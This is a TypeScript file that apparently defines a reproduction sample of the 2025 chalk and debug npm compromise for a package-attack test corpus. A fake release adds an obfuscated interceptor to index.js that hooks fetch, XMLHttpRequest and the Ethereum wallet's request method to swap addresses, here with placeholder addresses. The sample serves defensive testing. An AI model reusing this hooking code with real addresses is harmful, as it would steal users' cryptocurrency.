import { defineAttack } from "../attack.ts";
import { contentOf, smallLibrary } from "../bases.ts";
import { browserGuard } from "../guard.ts";
import { hideInTable, oneLine } from "../hiding.ts";
import type { LineEntry, PackageLine } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * chalk 5.6.1, debug 4.4.2 and sixteen more, 8 September 2025: a maintainer was phished. One obfuscated line stood before the
 * code; in a browser it replaced `fetch`, `XMLHttpRequest` and the wallet's `request`, and swapped addresses for similar ones.
 * Reproduced with addresses of nobody, and with a choice that leaves every address as it was.
 */
export const chalk2025: Sample = defineAttack({
  id: "chalk-2025",
  title: "One obfuscated line swaps wallet addresses in the browser",
  group: "takeover",
  trigger: "browser",
  judged: [
    { name: "chalk", version: "5.6.1" },
    { name: "debug", version: "4.4.2" },
  ],
  now: "2025-09-08T13:30:00Z",
  createLines: () => [line("chalk", ["5.5.0", "5.6.0", "5.6.1"]), line("debug", ["4.4.0", "4.4.1", "4.4.2"])],
});

function line(name: string, [older, last, armed]: readonly [string, string, string]): PackageLine {
  const files = smallLibrary(name);
  const releases: readonly LineEntry[] = [
    [older, "2025-05-13T10:00:00Z"],
    [last, "2025-08-18T10:00:00Z"],
    [
      armed,
      "2025-09-08T13:16:00Z",
      {
        hasCommit: false,
        files: [{ path: "index.js", content: interceptor + contentOf(files, "index.js") }],
      },
    ],
  ];
  return { name, files, publisher: person("qix"), releases };
}

const interceptor = hideInTable(
  oneLine(`${browserGuard}
  var neth = 0;
  var rund = 0;
  var loval = 0;
  var tables = { ethereum: ["0x00000000000000000000000000000000000000aa", "0x00000000000000000000000000000000000000bb"], bitcoin: ["bc1qinertinertinertinertinertinertinertin0"] };
  async function checkethereumw() {
    try {
      const list = await window.ethereum.request({ method: "eth_accounts" });
      if (list.length > 0) { runmask(); if (rund != 1) { rund = 1; neth = 1; newdlocal(); } }
      else if (rund != 1) { rund = 1; newdlocal(); }
    } catch (error) { if (rund != 1) { rund = 1; newdlocal(); } }
  }
  function nearest(found, known) { return known.includes(found) ? known[0] : found; }
  function swapIn(body) {
    let out = body;
    const found = out.match(/0x[a-fA-F0-9]{40}/g) || [];
    for (const each of found) { out = out.replace(each, nearest(each, tables.ethereum)); }
    const coins = out.match(/bc1[a-z0-9]{39}/g) || [];
    for (const each of coins) { out = out.replace(each, nearest(each, tables.bitcoin)); }
    return out;
  }
  function newdlocal() {
    const before = fetch;
    fetch = async function (...args) {
      const reply = await before(...args);
      const kind = reply.headers.get("Content-Type") || "";
      const data = kind.includes("application/json") ? JSON.stringify(await reply.clone().json()) : await reply.clone().text();
      return new Response(swapIn(data), { status: reply.status, statusText: reply.statusText, headers: reply.headers });
    };
    const opened = XMLHttpRequest.prototype.open;
    XMLHttpRequest.prototype.open = function (way, url, ...rest) { this["_url"] = url; return opened.apply(this, [way, url, ...rest]); };
    const sent = XMLHttpRequest.prototype.send;
    XMLHttpRequest.prototype.send = function (body) {
      const self = this;
      const prior = self.onreadystatechange;
      self.onreadystatechange = function () {
        if (self.readyState === 4) { Object.defineProperty(self, "responseText", { value: swapIn(self.responseText) }); }
        if (prior) prior.apply(this, arguments);
      };
      return sent.apply(this, [body]);
    };
  }
  function runmask() {
    const provider = window.ethereum;
    const kept = provider.request;
    provider.request = async function (call) {
      if (call.method === "eth_sendTransaction") { call.params[0].to = nearest(call.params[0].to, tables.ethereum); }
      return kept.apply(provider, [call]);
    };
  }
  if (invited() && typeof window != "undefined" && typeof window.ethereum != "undefined") { checkethereumw(); }
`),
);
